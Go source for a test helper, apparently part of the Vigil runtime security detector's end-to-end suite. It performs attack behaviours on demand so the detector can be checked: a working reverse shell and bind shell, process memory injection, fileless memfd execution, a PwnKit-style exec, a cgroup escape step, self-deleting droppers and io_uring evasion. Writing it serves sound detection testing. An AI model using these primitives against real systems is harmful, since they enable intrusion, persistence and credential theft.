// Command attacker performs, one at a time, the behaviours Vigil's end-to-end
// suite must detect: reverse shells, container escapes, process injection,
// fileless execution and the like. It is built static so the same binary runs
// on the host and inside a busybox container. Every action stays on this
// machine: network actions go to loopback addresses the test names.
//
// Usage: attacker ACTION [ARGS...]
package main

import (
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"

	"golang.org/x/sys/unix"

	"github.com/vigilsec/vigil/internal/testutil/elf32"
	"github.com/vigilsec/vigil/internal/testutil/uring"
)

func main() {
	if len(os.Args) < 2 {
		fmt.Fprintln(os.Stderr, "usage: attacker ACTION [ARGS...]")
		os.Exit(2)
	}
	action, args := os.Args[1], os.Args[2:]
	fn, ok := actions[action]
	if !ok {
		fmt.Fprintf(os.Stderr, "unknown action %q\n", action)
		os.Exit(2)
	}
	if err := fn(args); err != nil {
		fmt.Fprintf(os.Stderr, "%s: %v\n", action, err)
		os.Exit(1)
	}
}

var actions = map[string]func([]string) error{
	"revshell":       reverseShell,
	"mount":          mountAttempt,
	"traceme":        ptraceTraceme,
	"vmwrite":        processVMWrite,
	"memfd-exec":     memfdExec,
	"procmem":        procMemWrite,
	"userfaultfd":    userfaultfd,
	"modload":        moduleLoad,
	"dns":            dnsQuery,
	"release-agent":  releaseAgent,
	"drop-exec":      dropAndExec,
	"deleted-exec":   deletedExec,
	"self-delete":    selfDelete,
	"wrmsr":          writeMSRs,
	"exec-noargs":    execNoArgs,
	"read-mem":       readMem,
	"exec32":         exec32,
	"io-uring":       ioUring,
	"uring-read":     uringRead,
	"uring-unlink":   uringUnlink,
	"setns":          setns,
	"relay":          relay,
	"write":          writeFile,
	"connect-unix":   connectUnix,
	"listen-spawn":   listenAndSpawn,
	"ptrace-attach":  ptraceAttach,
	"sleep":          func(a []string) error { return sleepFor(a) },
	"exec":           execArgs,
	"ld-preload-run": ldPreloadRun,
}

// reverseShell connects to ADDR, puts the socket on fds 0, 1 and 2 and execs
// SHELL (a renamed copy of a shell in the suite), as the classic C and Python
// reverse shells do. Args: ADDR SHELL [SHELL-ARGS...]
func reverseShell(args []string) error {
	if len(args) < 2 {
		return errors.New("want ADDR SHELL")
	}
	conn, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	f, err := conn.(*net.TCPConn).File()
	if err != nil {
		return err
	}
	fd := int(f.Fd())
	for _, target := range []int{0, 1, 2} {
		if err := unix.Dup3(fd, target, 0); err != nil {
			return fmt.Errorf("dup3 onto %d: %w", target, err)
		}
	}
	return unix.Exec(args[1], args[1:], os.Environ())
}

// mountAttempt tries to bind-mount SRC on DST (default /etc on /tmp); the
// attempt is what matters, so a failure is not an error.
func mountAttempt(args []string) error {
	src, dst := "/etc", "/tmp"
	if len(args) >= 2 {
		src, dst = args[0], args[1]
	}
	err := unix.Mount(src, dst, "", unix.MS_BIND, "")
	fmt.Printf("mount %s %s: %v\n", src, dst, err)
	if err == nil {
		_ = unix.Unmount(dst, 0)
	}
	return nil
}

// ptraceTraceme forks a child that calls PTRACE_TRACEME and stops; the
// parent then peeks the child's memory, as an anti-debugging stub and its
// tracer would.
func ptraceTraceme(args []string) error {
	if len(args) > 0 && args[0] == "child" {
		runtime.LockOSThread()
		if _, _, e := unix.RawSyscall(unix.SYS_PTRACE, unix.PTRACE_TRACEME, 0, 0); e != 0 {
			return e
		}
		_ = unix.Kill(os.Getpid(), unix.SIGSTOP)
		return nil
	}
	self, _ := os.Executable()
	runtime.LockOSThread()
	cmd := exec.Command(self, "traceme", "child")
	if err := cmd.Start(); err != nil {
		return err
	}
	pid := cmd.Process.Pid
	var ws unix.WaitStatus
	if _, err := unix.Wait4(pid, &ws, 0, nil); err != nil {
		return err
	}
	buf := make([]byte, 8)
	_, err := unix.PtracePeekData(pid, uintptr(unsafe.Pointer(&marker[0])), buf)
	fmt.Printf("peek %d: %v\n", pid, err)
	_ = unix.PtraceCont(pid, 0)
	_, _ = unix.Wait4(pid, &ws, 0, nil)
	return nil
}

// ptraceAttach attaches to a freshly started child and reads its registers.
func ptraceAttach([]string) error {
	child := exec.Command("/bin/sleep", "5")
	if _, err := os.Stat("/bin/sleep"); err != nil {
		self, _ := os.Executable()
		child = exec.Command(self, "sleep", "5")
	}
	if err := child.Start(); err != nil {
		return err
	}
	defer func() { _ = child.Process.Kill(); _ = child.Wait() }()
	runtime.LockOSThread()
	pid := child.Process.Pid
	if err := unix.PtraceAttach(pid); err != nil {
		return err
	}
	var ws unix.WaitStatus
	_, _ = unix.Wait4(pid, &ws, 0, nil)
	var regs unix.PtraceRegs
	err := unix.PtraceGetRegs(pid, &regs)
	fmt.Printf("getregs %d: %v\n", pid, err)
	return unix.PtraceDetach(pid)
}

// processVMWrite starts a child and writes into its memory with
// process_vm_writev.
func processVMWrite([]string) error {
	self, _ := os.Executable()
	child := exec.Command(self, "sleep", "5")
	if err := child.Start(); err != nil {
		return err
	}
	defer func() { _ = child.Process.Kill(); _ = child.Wait() }()
	time.Sleep(200 * time.Millisecond)
	payload := []byte("vigil")
	local := []unix.Iovec{{Base: &payload[0], Len: uint64(len(payload))}}
	remote := []unix.RemoteIovec{{Base: uintptr(unsafe.Pointer(&marker[0])), Len: len(payload)}}
	n, err := unix.ProcessVMWritev(child.Process.Pid, local, remote, 0)
	fmt.Printf("process_vm_writev %d: %d %v\n", child.Process.Pid, n, err)
	return nil
}

// marker is in the binary's BSS: a static non-PIE binary maps it at the same
// address in every process that runs it, so the child's copy can be written.
var marker [64]byte

// procMemWrite writes into a child's memory through /proc/PID/mem.
func procMemWrite([]string) error {
	self, _ := os.Executable()
	child := exec.Command(self, "sleep", "5")
	if err := child.Start(); err != nil {
		return err
	}
	defer func() { _ = child.Process.Kill(); _ = child.Wait() }()
	time.Sleep(200 * time.Millisecond)
	f, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", child.Process.Pid), os.O_RDWR, 0)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteAt([]byte("vigil"), int64(uintptr(unsafe.Pointer(&marker[0]))))
	fmt.Printf("write /proc/%d/mem: %v\n", child.Process.Pid, err)
	return nil
}

// memfdExec copies a binary (default this one) into a memfd and executes it
// through execveat(fd, "", AT_EMPTY_PATH), as fileless malware does.
func memfdExec(args []string) error {
	src, _ := os.Executable()
	rest := []string{"sleep", "0"}
	if len(args) > 0 {
		src, rest = args[0], args[1:]
	}
	data, err := os.ReadFile(src)
	if err != nil {
		return err
	}
	fd, err := unix.MemfdCreate("payload", unix.MFD_CLOEXEC)
	if err != nil {
		return err
	}
	if _, err := unix.Write(fd, data); err != nil {
		return err
	}
	argv := append([]string{"payload"}, rest...)
	argvp, _ := syscall.SlicePtrFromStrings(argv)
	envp, _ := syscall.SlicePtrFromStrings(os.Environ())
	empty, _ := unix.BytePtrFromString("")
	_, _, e := unix.Syscall6(unix.SYS_EXECVEAT, uintptr(fd), uintptr(unsafe.Pointer(empty)),
		uintptr(unsafe.Pointer(&argvp[0])), uintptr(unsafe.Pointer(&envp[0])), unix.AT_EMPTY_PATH, 0)
	return e
}

// deletedExec copies a binary to a temporary file, starts it, and deletes the
// file while the process runs; then the running process execs itself from
// /proc/self/exe (an exec of a deleted file).
func deletedExec([]string) error {
	self, _ := os.Executable()
	data, err := os.ReadFile(self)
	if err != nil {
		return err
	}
	dir, err := os.MkdirTemp("", "vigil-del")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	path := filepath.Join(dir, "ephemeral")
	if err := os.WriteFile(path, data, 0o755); err != nil {
		return err
	}
	cmd := exec.Command(path, "exec", "/proc/self/exe", "sleep", "1")
	if err := cmd.Start(); err != nil {
		return err
	}
	// Remove the file as soon as the child runs, before it re-executes.
	if err := os.Remove(path); err != nil {
		return err
	}
	return cmd.Wait()
}

// selfDelete unlinks the file this program runs from, as a dropper does once
// it is in memory, and runs on a moment without it.
func selfDelete([]string) error {
	self, err := os.Executable()
	if err != nil {
		return err
	}
	if err := os.Remove(self); err != nil {
		return err
	}
	time.Sleep(200 * time.Millisecond)
	return nil
}

// writeMSRs opens every CPU's model-specific registers for writing, as a
// RandomX miner does at start (the device is missing without the msr
// module; the attempt is the behaviour).
func writeMSRs([]string) error {
	cpus, _ := filepath.Glob("/dev/cpu/[0-9]*")
	if len(cpus) == 0 {
		cpus = []string{"/dev/cpu/0"}
	}
	for _, c := range cpus {
		if fd, err := unix.Open(filepath.Join(c, "msr"), unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
			unix.Close(fd)
		}
	}
	return nil
}

// execNoArgs execs PATH with an empty argument list (argc 0), as argv-confusion
// exploits of setuid programs (PwnKit) start pkexec. Args: PATH
func execNoArgs(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	path, err := unix.BytePtrFromString(args[0])
	if err != nil {
		return err
	}
	argv := []*byte{nil}
	envv, _ := syscall.SlicePtrFromStrings([]string{"PATH=GCONV_PATH=.", "CHARSET=VIGIL"})
	_, _, e := unix.Syscall(unix.SYS_EXECVE, uintptr(unsafe.Pointer(path)), uintptr(unsafe.Pointer(&argv[0])), uintptr(unsafe.Pointer(&envv[0])))
	return e
}

// readMem reads the first mapped page of process PID through /proc/PID/mem,
// as credential dumpers read sshd's or a keyring's memory. Args: PID
func readMem(args []string) error {
	if len(args) < 1 {
		return errors.New("want PID")
	}
	maps, err := os.ReadFile("/proc/" + args[0] + "/maps")
	if err != nil {
		return err
	}
	start, _, _ := strings.Cut(string(maps), "-")
	addr, err := strconv.ParseUint(start, 16, 64)
	if err != nil {
		return err
	}
	f, err := os.Open("/proc/" + args[0] + "/mem")
	if err != nil {
		return err
	}
	defer f.Close()
	buf := make([]byte, 64)
	_, err = f.ReadAt(buf, int64(addr))
	return err
}

// execArgs execs PATH with ARGS after a short pause (the pause lets the caller
// delete PATH first). Args: PATH ARGS...
func execArgs(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH [ARGS...]")
	}
	time.Sleep(300 * time.Millisecond)
	return unix.Exec(args[0], args, os.Environ())
}

// userfaultfd calls userfaultfd(2), as kernel exploits that race page faults do.
func userfaultfd([]string) error {
	fd, _, e := unix.Syscall(unix.SYS_USERFAULTFD, unix.O_CLOEXEC|unix.O_NONBLOCK, 0, 0)
	fmt.Printf("userfaultfd: %d %v\n", int(fd), e)
	if e == 0 {
		unix.Close(int(fd))
	}
	return nil
}

// moduleLoad tries to load a (bogus) kernel module with init_module and
// finit_module; the kernel refuses it, the attempt is what matters.
func moduleLoad([]string) error {
	image := []byte("\x7fELF not a real module")
	_, _, e1 := unix.Syscall(unix.SYS_INIT_MODULE, uintptr(unsafe.Pointer(&image[0])), uintptr(len(image)), uintptr(unsafe.Pointer(&[]byte("\x00")[0])))
	f, err := os.CreateTemp("", "vigil-*.ko")
	if err != nil {
		return err
	}
	defer os.Remove(f.Name())
	_, _ = f.Write(image)
	e2 := unix.FinitModule(int(f.Fd()), "", 0)
	f.Close()
	fmt.Printf("init_module: %v, finit_module: %v\n", e1, e2)
	return nil
}

// dnsQuery sends one A query for NAME to SERVER (host:port) over UDP with
// sendto and waits briefly for the answer. Args: NAME SERVER
func dnsQuery(args []string) error {
	if len(args) < 2 {
		return errors.New("want NAME SERVER")
	}
	addr, err := net.ResolveUDPAddr("udp", args[1])
	if err != nil {
		return err
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	var sa unix.SockaddrInet4
	copy(sa.Addr[:], addr.IP.To4())
	sa.Port = addr.Port
	if err := unix.Sendto(fd, buildQuery(args[0]), 0, &sa); err != nil {
		return err
	}
	_ = unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Sec: 1})
	buf := make([]byte, 512)
	n, _, err := unix.Recvfrom(fd, buf, 0)
	fmt.Printf("dns %s: %d bytes %v\n", args[0], n, err)
	return nil
}

func buildQuery(name string) []byte {
	msg := []byte{0x12, 0x34, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0}
	for _, label := range strings.Split(strings.TrimSuffix(name, "."), ".") {
		msg = append(msg, byte(len(label)))
		msg = append(msg, label...)
	}
	msg = append(msg, 0)
	return binary.BigEndian.AppendUint16(binary.BigEndian.AppendUint16(msg, 1), 1)
}

// releaseAgent mounts a cgroup v1 hierarchy (when it can) and opens its
// release_agent for write, the first step of the classic cgroups container
// escape. Args: [DIR] — a directory with an already mounted cgroup.
func releaseAgent(args []string) error {
	dir := "/tmp/cgrp"
	if len(args) > 0 {
		dir = args[0]
	}
	_ = os.MkdirAll(dir, 0o755)
	if _, err := os.Stat(filepath.Join(dir, "release_agent")); err != nil {
		err := unix.Mount("cgroup", dir, "cgroup", 0, "rdma")
		if err != nil {
			err = unix.Mount("cgroup", dir, "cgroup", 0, "memory")
		}
		fmt.Printf("mount cgroup on %s: %v\n", dir, err)
	}
	f, err := os.OpenFile(filepath.Join(dir, "release_agent"), os.O_WRONLY|os.O_CREATE, 0o644)
	fmt.Printf("open release_agent for write: %v\n", err)
	if err == nil {
		f.Close()
	}
	return nil
}

// dropAndExec writes a copy of this binary to PATH (a new file) and runs it,
// as a dropper does, after writing DECOYS other files when given. Args: PATH [DECOYS]
func dropAndExec(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH [DECOYS]")
	}
	self, _ := os.Executable()
	data, err := os.ReadFile(self)
	if err != nil {
		return err
	}
	if err := os.MkdirAll(filepath.Dir(args[0]), 0o755); err != nil {
		return err
	}
	if err := os.WriteFile(args[0], data, 0o755); err != nil {
		return err
	}
	// Decoys written after the payload, as a dropper would to push the
	// payload's write out of a detector's memory.
	if len(args) > 1 {
		n, err := strconv.Atoi(args[1])
		if err != nil {
			return fmt.Errorf("decoys: %w", err)
		}
		for i := range n {
			if err := os.WriteFile(fmt.Sprintf("%s.decoy%d", args[0], i), []byte("x"), 0o644); err != nil {
				return err
			}
		}
	}
	out, err := exec.Command(args[0], "sleep", "0").CombinedOutput()
	fmt.Printf("ran %s: %v %s\n", args[0], err, out)
	return nil
}

// exec32 writes a 32-bit (i386) program to PATH and runs it: its system
// calls take the compatibility path the per-syscall tracepoints do not see.
// Args: PATH
func exec32(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	if err := os.WriteFile(args[0], elf32.ExitProgram(0), 0o755); err != nil {
		return err
	}
	return exec.Command(args[0]).Run()
}

// ioUring sets up an io_uring, as implants that open files and connect
// through the ring (bypassing system calls) do first.
func ioUring([]string) error {
	var params [120]byte // struct io_uring_params; zero asks for defaults
	fd, _, e := unix.Syscall(unix.SYS_IO_URING_SETUP, 8, uintptr(unsafe.Pointer(&params)), 0)
	fmt.Printf("io_uring_setup: %d %v\n", int(fd), e)
	if e == 0 {
		unix.Close(int(fd))
	}
	return nil
}

// uringRead opens PATH for reading through an io_uring, as implants that
// avoid system calls do, creating it first (also through the ring) when it
// is missing. Args: PATH
func uringRead(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	ring, err := uring.New()
	if err != nil {
		return err
	}
	defer ring.Close()
	if _, err := os.Stat(args[0]); err != nil {
		fd, err := ring.Openat(args[0], os.O_WRONLY|os.O_CREATE, 0o600)
		if err != nil {
			return fmt.Errorf("create %s: %w", args[0], err)
		}
		unix.Close(fd)
	}
	fd, err := ring.Openat(args[0], os.O_RDONLY, 0)
	if err != nil {
		return fmt.Errorf("open %s: %w", args[0], err)
	}
	fmt.Printf("opened %s through an io_uring: fd %d\n", args[0], fd)
	return unix.Close(fd)
}

// uringUnlink removes PATH through an io_uring (no unlink system call),
// creating it first when it is missing. Args: PATH
func uringUnlink(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	if err := os.MkdirAll(filepath.Dir(args[0]), 0o700); err != nil {
		return err
	}
	if _, err := os.Stat(args[0]); err != nil {
		// Created without O_TRUNC: only the removal may raise a finding.
		f, err := os.OpenFile(args[0], os.O_WRONLY|os.O_CREATE|os.O_EXCL, 0o600)
		if err != nil {
			return err
		}
		f.Close()
	}
	ring, err := uring.New()
	if err != nil {
		return err
	}
	defer ring.Close()
	if err := ring.Unlinkat(args[0], 0); err != nil {
		return fmt.Errorf("unlink %s: %w", args[0], err)
	}
	fmt.Printf("removed %s through an io_uring\n", args[0])
	return nil
}

// relay connects to ADDR and copies its standard input to the connection
// and the connection to its standard output, as netcat does in a
// named-pipe reverse shell. It returns when the peer closes. Args: ADDR
func relay(args []string) error {
	if len(args) < 1 {
		return errors.New("want ADDR")
	}
	c, err := net.Dial("tcp", args[0])
	if err != nil {
		return err
	}
	defer c.Close()
	go func() {
		io.Copy(c, os.Stdin)
		c.(*net.TCPConn).CloseWrite() // the shell is done: let the peer finish
	}()
	_, err = io.Copy(os.Stdout, c)
	return err
}

// setns joins the namespace PATH names (/proc/1/ns/mnt), as nsenter does;
// a refusal is reported, not fatal. Args: PATH
func setns(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	fd, err := unix.Open(args[0], unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	runtime.LockOSThread() // the namespace is the thread's; leave it with the thread
	err = unix.Setns(fd, 0)
	fmt.Printf("setns %s: %v\n", args[0], err)
	return nil
}

// writeFile opens PATH for append and writes a line (sensitive-file writes).
// Args: PATH [TEXT]
func writeFile(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	text := "# vigil e2e\n"
	if len(args) > 1 {
		text = args[1] + "\n"
	}
	if err := os.MkdirAll(filepath.Dir(args[0]), 0o755); err != nil {
		return err
	}
	f, err := os.OpenFile(args[0], os.O_WRONLY|os.O_APPEND|os.O_CREATE, 0o600)
	if err != nil {
		return err
	}
	defer f.Close()
	_, err = f.WriteString(text)
	return err
}

// connectUnix connects to the unix socket PATH (for example a container
// runtime's socket). Args: PATH
func connectUnix(args []string) error {
	if len(args) < 1 {
		return errors.New("want PATH")
	}
	c, err := net.Dial("unix", args[0])
	fmt.Printf("connect %s: %v\n", args[0], err)
	if err == nil {
		c.Close()
	}
	return nil
}

// listenAndSpawn listens on ADDR, accepts one connection, and starts
// SHELL -i with the connection as its terminal, as a web shell or a
// backdoored service does. Args: ADDR SHELL
func listenAndSpawn(args []string) error {
	if len(args) < 2 {
		return errors.New("want ADDR SHELL")
	}
	ln, err := net.Listen("tcp", args[0])
	if err != nil {
		return err
	}
	defer ln.Close()
	fmt.Println("listening")
	c, err := ln.Accept()
	if err != nil {
		return err
	}
	defer c.Close()
	f, _ := c.(*net.TCPConn).File()
	cmd := exec.Command(args[1], "-i")
	cmd.Stdin, cmd.Stdout, cmd.Stderr = f, f, f
	return cmd.Run()
}

// ldPreloadRun runs CMD with LD_PRELOAD set to LIB. Args: LIB CMD [ARGS...]
func ldPreloadRun(args []string) error {
	if len(args) < 2 {
		return errors.New("want LIB CMD")
	}
	cmd := exec.Command(args[1], args[2:]...)
	cmd.Env = append(os.Environ(), "LD_PRELOAD="+args[0])
	out, err := cmd.CombinedOutput()
	fmt.Printf("LD_PRELOAD run: %v %s\n", err, out)
	return nil
}

func sleepFor(args []string) error {
	d := time.Second
	if len(args) > 0 {
		if s, err := strconv.ParseFloat(args[0], 64); err == nil {
			d = time.Duration(s * float64(time.Second))
		}
	}
	time.Sleep(d)
	return nil
}
